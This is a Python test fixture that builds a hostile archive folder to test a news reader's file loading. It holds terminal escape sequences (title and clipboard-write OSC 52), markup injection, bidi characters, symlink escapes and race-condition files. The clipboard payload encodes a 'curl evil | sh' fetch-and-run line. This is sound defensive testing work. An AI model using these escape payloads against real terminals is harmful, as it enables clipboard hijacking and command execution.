"""Build a hostile archive folder: every way issue 9 says a folder or a file can go wrong.

`build_hazards(base)` makes `base/archive` (the folder to open) and `base/outside` (what links
must never reach), and returns what loading it must give: the articles, and one warning per
bad entry keyed by its path relative to the archive (a file with a bad name gives both).
Tests load it in-process (tests/test_hazard_folder.py) and in tmux (tests/test_hostile_terminal.py).
"""

import base64
import os
import re
import stat
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from newsreader.ingest.load import display_path

# Whatever a hostile sequence would put in the terminal title or clipboard; never shown on screen.
PAYLOAD = "PWNED"
DEPTH = 1000
MANY_FILES = 100_000
HUGE_LINE_BYTES = 2 * 1024 * 1024
DEEP_ARTICLE = "/".join(["deep"] + ["d"] * (DEPTH - 1) + ["bottom.txt"])

_OSC52 = base64.b64encode(f"curl evil | sh # {PAYLOAD}".encode()).decode()
# Terminal escapes, 7-bit and 8-bit: title set (OSC 0/2), clipboard write (OSC 52), clear screen,
# alternate screen, mouse capture, full reset, hyperlink, DCS, APC, PM, SOS, an unterminated OSC.
TERMINAL_ESCAPES = (
    f"\x1b]0;{PAYLOAD}\x07",
    f"\x1b]2;{PAYLOAD}\x1b\\",
    f"\x9d2;{PAYLOAD}\x9c",
    f"\x1b]52;c;{_OSC52}\x07",
    f"\x1b]52;p;{_OSC52}\x1b\\",
    "\x1b[2J\x1b[H\x1b[3J",
    "\x9b2J",
    "\x1b[?1049h\x1b[?1000h\x1b[?1006h",
    "\x1bc",
    f"\x1b]8;;http://{PAYLOAD}.example/\x1b\\",
    f"\x1bP+q{PAYLOAD}\x1b\\",
    f"\x1b_G{PAYLOAD}\x1b\\",
    f"\x1b^{PAYLOAD}\x1b\\",
    f"\x1bX{PAYLOAD}\x1b\\",
)
UNTERMINATED_OSC = f"\x1b]2;{PAYLOAD}"
BIDI_AND_INVISIBLE = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff"
)
MARKUP = "[bold red]жирный[/] [@click=app.quit]выход[/] [/] [link=file:///etc/passwd]ссылка[/link] [on red]"
# What no displayed string may hold: C0 controls but newline (tab is expanded), DEL, C1 controls,
# bidi controls, zero-width and other invisible format characters, line/paragraph separators
# (they become newlines), lone surrogates, tag characters.
UNSAFE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f"
    "\ufeff\ufff9-\ufffb\ud800-\udfff\U000e0000-\U000e007f]"
)
BODY = "Президент России провёл встречу с министрами в Москве.\n\nОбсуждались вопросы экономики и бюджета."


def article(title: str, body: str = BODY, header: str = "date 2025-03-04") -> str:
    return f"{header}\n{title}\n\n{body}\n"


@dataclass
class Hazards:
    """The built folder and what loading it must give."""

    root: Path
    outside: Path
    titles: dict[str, str] = field(default_factory=dict)  # article id -> title
    warnings: dict[str, str] = field(default_factory=dict)  # relative path -> reason

    def add(self, relative: str | bytes, data: bytes, title: str | None = None, warning: str | None = None) -> Path:
        path = self.path(relative)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.expect(relative, title, warning)
        return path

    def path(self, relative: str | bytes) -> Path:
        return self.root / (os.fsdecode(relative) if isinstance(relative, bytes) else relative)

    def expect(self, relative: str | bytes, title: str | None = None, warning: str | None = None) -> None:
        shown = shown_name(relative)
        if title is not None:
            self.titles[shown] = title
        if warning is not None:
            self.warnings[shown] = warning

    def link(self, relative: str, target: str | Path, warning: str | None = None) -> None:
        path = self.path(relative)
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, path)
        self.expect(relative, warning=warning)


def shown_name(relative: str | bytes) -> str:
    """How a relative name appears in ids and warnings: undecodable bytes as \\xNN, escapes removed."""
    return display_path(os.fsencode(relative))


def build_hazards(base: Path, many_files: int = 0, huge_line: bool = False) -> Hazards:
    """Make the hostile archive under `base`. `many_files` files go in one folder; 10^5 is slow to make."""
    hazards = Hazards(base / "archive", base / "outside")
    hazards.root.mkdir(parents=True)
    hazards.outside.mkdir()
    (hazards.outside / "secret.txt").write_text(article(f"Секрет снаружи {PAYLOAD}"))
    _content_hazards(hazards, huge_line)
    _name_hazards(hazards)
    _link_hazards(hazards)
    _unreadable(hazards)
    _deep_tree(hazards)
    if many_files:
        _many_files(hazards, many_files)
    return hazards


def _content_hazards(hazards: Hazards, huge_line: bool) -> None:
    add = hazards.add
    add("good.txt", article("Хорошая новость").encode(), title="Хорошая новость")
    escapes = "".join(TERMINAL_ESCAPES)
    add(
        "escapes.txt",
        article(f"Экранирование{escapes} в заголовке", f"Тело{escapes}статьи\n\nКонец{UNTERMINATED_OSC}").encode(),
        title="Экранирование в заголовке",
    )
    add(
        "bidi.txt",
        article(f"Би{BIDI_AND_INVISIBLE}ди\u00a0текст", f"Пу{BIDI_AND_INVISIBLE}тин\n\nВторой абзац").encode(),
        title="Биди текст",
    )
    add("nul.txt", article("Нуль\x00внутри", "Тело\x00с нулями\x00\n\nещё абзац").encode(), title="Нульвнутри")
    add(
        "controls.txt",
        article("Звонок\x07и\x08удаление\x7f", "Тело\x0bс\x0cконтролем\x1f").encode(),
        title="Звонок\ufffdи\ufffdудаление\ufffd",
    )
    add("markup.txt", article(MARKUP, f"Тело {MARKUP}").encode(), title=MARKUP)
    add("cp1251.txt", article("Новости экономики в Москве").encode("cp1251"), title="Новости экономики в Москве")
    add("koi8.txt", article("Правительство утвердило бюджет").encode("koi8_r"), title="Правительство утвердило бюджет")
    add("utf16.txt", article("Файл в UTF-16").encode("utf-16"), title="Файл в UTF-16")
    add("utf16_no_bom.txt", article("Без метки порядка").encode("utf-16-le"), warning="binary")
    add("binary.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 16, warning="binary")
    add(
        "junk.txt",
        bytes((i * 7919 + 13) % 256 for i in range(4096)),
        warning="binary or unknown encoding (not UTF-8, cp1251, KOI8-R or cp866)",
    )
    add("empty.txt", b"", warning="empty file")
    add("header_only.txt", b"date 2025-03-04\n", title="(untitled)", warning="no text after the header")
    os.mkfifo(hazards.path("fifo.txt"))
    hazards.expect("fifo.txt", warning="not a regular file (FIFO)")
    if huge_line:
        words = "Длинная строка без переводов строки. "
        line = words * (HUGE_LINE_BYTES // len(words.encode()))
        add("huge_line.txt", article("Огромная строка", line).encode(), title="Огромная строка")


NOT_UTF8 = "name is not valid UTF-8 (undecodable bytes shown as \\xNN)"


def _name_hazards(hazards: Hazards) -> None:
    hazards.add(b"bad_\xff\xfe_name.txt", article("Имя не в UTF-8").encode(), title="Имя не в UTF-8", warning=NOT_UTF8)
    hazards.add(
        b"cp1251_\xcd\xee\xe2\xee\xf1\xf2\xe8.txt",
        article("Имя в cp1251").encode(),
        title="Имя в cp1251",
        warning=NOT_UTF8,
    )
    # An empty file, so the hostile name shows up on the warnings screen.
    hazards.add(f"title_\x1b]2;{PAYLOAD}\x07_\x1b]52;c;{_OSC52}\x07_[@click=app.quit].txt", b"", warning="empty file")


def _link_hazards(hazards: Hazards) -> None:
    link = hazards.link
    link("loops/self.txt", "self.txt", "symlink loop")
    link("loops/mutual_a.txt", "mutual_b.txt", "symlink loop")
    link("loops/mutual_b.txt", "mutual_a.txt", "symlink loop")
    link("loops/chain_1.txt", "chain_2.txt", "symlink loop")
    link("loops/chain_2.txt", "chain_3.txt", "symlink loop")
    link("loops/chain_3.txt", "chain_1.txt", "symlink loop")
    link("loops/self_dir", "self_dir", "symlink loop")
    link("dangling.txt", "missing.txt", "dangling link (to missing.txt, which does not exist)")
    outside = f"link leads outside the folder (to {hazards.outside}"
    link("outside.txt", hazards.outside / "secret.txt", f"{outside}/secret.txt)")
    link("outside_dir", hazards.outside, f"{outside})")
    link("outside_relative", "../outside", f"{outside})")
    hazards.add("cycle/a/inside.txt", article("Статья в цикле папок").encode(), title="Статья в цикле папок")
    link("cycle/a/up", "../..", f"directory loop: leads back to {hazards.root}")
    link("cycle/b", "a", f"same folder as {hazards.path('cycle/a')}, not walked twice")
    link("good_link.txt", "good.txt")
    hazards.expect("good_link.txt", title="Хорошая новость")


def _unreadable(hazards: Hazards) -> None:
    """Mode 000; root reads them anyway, so the expectation follows what the system allows."""
    file = hazards.add("locked.txt", article("Запертый файл").encode())
    folder = hazards.path("locked_dir")
    hazards.add("locked_dir/inside.txt", article("В запертой папке").encode())
    file.chmod(0)
    folder.chmod(0)
    if os.access(file, os.R_OK):
        hazards.expect("locked.txt", title="Запертый файл")
        hazards.expect("locked_dir/inside.txt", title="В запертой папке")
    else:
        hazards.expect("locked.txt", warning="permission denied")
        hazards.expect("locked_dir", warning="permission denied")


def _deep_tree(hazards: Hazards) -> None:
    """Made one level at a time: pathlib and Python 3.11's rmtree recurse once per level."""
    hazards.path("deep").mkdir()
    descriptor = os.open(hazards.path("deep"), os.O_RDONLY)
    try:
        for _ in range(DEPTH - 1):
            os.mkdir("d", dir_fd=descriptor)
            inner = os.open("d", os.O_RDONLY, dir_fd=descriptor)
            os.close(descriptor)
            descriptor = inner
        bottom = os.open("bottom.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=descriptor)
        os.write(bottom, article("Статья на дне").encode())
        os.close(bottom)
    finally:
        os.close(descriptor)
    hazards.expect(DEEP_ARTICLE, title="Статья на дне")


def _remove_deep_tree(root: Path) -> None:
    deepest = root / DEEP_ARTICLE
    if not deepest.parent.exists():
        return
    deepest.unlink(missing_ok=True)
    folder = deepest.parent
    while folder != root:
        folder.rmdir()
        folder = folder.parent


def _many_files(hazards: Hazards, count: int) -> None:
    folder = hazards.path("many")
    folder.mkdir()
    descriptor = os.open(folder, os.O_RDONLY)
    try:
        for index in range(count):
            name = f"{index:06d}.txt"
            file = os.open(name, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=descriptor)
            os.write(file, f"date 2025-01-01\nСтатья {index}\n".encode())
            os.close(file)
            hazards.titles[f"many/{name}"] = f"Статья {index}"
    finally:
        os.close(descriptor)


RACE_MAX_BYTES = 4096  # the size cap to load the race folder with


def build_race(folder: Path) -> tuple[Callable[[], None], dict[str, str]]:
    """Files that vanish or change between listing and reading, in `folder`.

    Returns the change to make once the folder is listed, and the warning each file must then get.
    """
    folder.mkdir(parents=True, exist_ok=True)
    names = ("vanishes", "becomes_fifo", "grows", "empties", "becomes_dir")
    for name in names:
        (folder / f"{name}.txt").write_text(article(f"Файл {name}"))

    def change() -> None:
        (folder / "vanishes.txt").unlink()
        (folder / "becomes_fifo.txt").unlink()
        os.mkfifo(folder / "becomes_fifo.txt")
        (folder / "grows.txt").write_bytes(b"x" * (RACE_MAX_BYTES + 1))
        (folder / "empties.txt").write_bytes(b"")
        (folder / "becomes_dir.txt").unlink()
        (folder / "becomes_dir.txt").mkdir()

    reasons = (
        "vanished before it could be read",
        "not a regular file (FIFO)",
        "too large (4.0 KiB > 4 KiB)",
        "empty file",
        "not a regular file (directory)",
    )
    return change, {f"{name}.txt": reason for name, reason in zip(names, reasons, strict=True)}


def dismantle(hazards: Hazards) -> None:
    """Give back the permissions `build_hazards` took and remove the deep tree, so the folder can be deleted."""
    for path in (hazards.path("locked.txt"), hazards.path("locked_dir")):
        if path.exists():
            path.chmod(stat.S_IRWXU)
    _remove_deep_tree(hazards.root)
